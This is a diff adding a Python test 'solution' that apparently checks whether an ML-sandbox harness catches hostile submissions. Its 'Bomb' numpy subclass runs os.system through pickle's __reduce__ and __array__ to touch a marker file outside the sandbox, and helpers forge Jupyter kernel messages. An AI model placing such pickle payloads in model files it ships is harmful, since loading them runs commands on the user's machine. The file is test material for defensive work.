@@ -1,0 +1,71 @@
+"""Return an object whose pickle runs a command.
+
+category: lies
+ends: scored|failed|rejected
+level: solution
+timeout: 60
+"""
+
+import json
+
+import numpy as np
+
+
+def kernel():
+    return get_ipython().kernel
+
+
+def buffers():
+    return [bytes(part) for part in kernel().get_parent("shell")["buffers"]]
+
+
+def send(name, data):
+    kernel().session.send(
+        kernel().iopub_socket,
+        "display_data",
+        {"data": {}, "metadata": {}, "transient": {"mlpilot_buffer": name, "first": True}},
+        parent=kernel().get_parent("shell"),
+        buffers=[data],
+    )
+
+
+def reply(content):
+    parent, ident = kernel().get_parent("shell"), kernel()._get_shell_context_var(kernel()._shell_parent_ident)
+    kernel().session.send(kernel().shell_stream.socket, "execute_reply", content, parent=parent, ident=ident)
+    kernel().session.send(kernel().iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
+
+
+def rows():
+    return len(buffers()[3]) // 4
+
+
+def prediction(values, **changed):
+    head = {"kind": "probabilities", "shape": [len(values), 2], **changed}
+    return json.dumps(head).encode() + b"\n" + np.ascontiguousarray(values, "<f8").tobytes()
+
+
+def sure(count):
+    return np.tile([0.0, 1.0], (count, 1))
+
+
+from IPython import get_ipython
+
+
+class Bomb(np.ndarray):
+    def __reduce__(self):
+        return (os.system, (f"touch {host.outside}/{host.mark}",))
+
+    def __array__(self, *a, **k):
+        os.system(f"touch {host.outside}/{host.mark}")
+        return np.zeros(5)
+
+
+def fit(X, y, *, params, seed, report):
+    return Bomb((3,))
+
+
+def predict(model, X):
+    import pickle
+
+    send("model", pickle.dumps(model))
+    return np.zeros(len(X), int).view(Bomb)
